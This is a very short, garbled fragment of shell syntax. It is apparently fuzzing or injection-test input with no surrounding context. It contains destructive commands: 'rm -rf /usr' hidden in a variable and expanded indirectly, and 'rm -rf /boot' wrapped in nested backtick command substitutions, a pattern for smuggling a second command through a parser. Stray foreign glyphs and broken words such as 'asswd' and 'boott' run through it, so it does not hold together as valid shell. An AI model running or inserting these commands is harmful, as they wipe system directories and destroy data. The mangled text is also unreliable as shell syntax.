x='r -rf /usr'; ${x@ݢE}
asswdecho `echo \\`೪ /boo-p '' rm -rf /boott\\``
